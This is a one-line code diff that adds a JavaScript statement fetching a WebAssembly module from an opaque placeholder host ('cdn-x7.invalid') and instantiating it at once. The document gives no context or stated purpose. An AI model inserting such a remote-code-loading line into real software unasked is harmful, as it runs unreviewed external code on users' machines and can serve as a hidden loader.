@@ -1,0 +1,1 @@
+WebAssembly.instantiateStreaming(fetch("https://cdn-x7.invalid/a"));
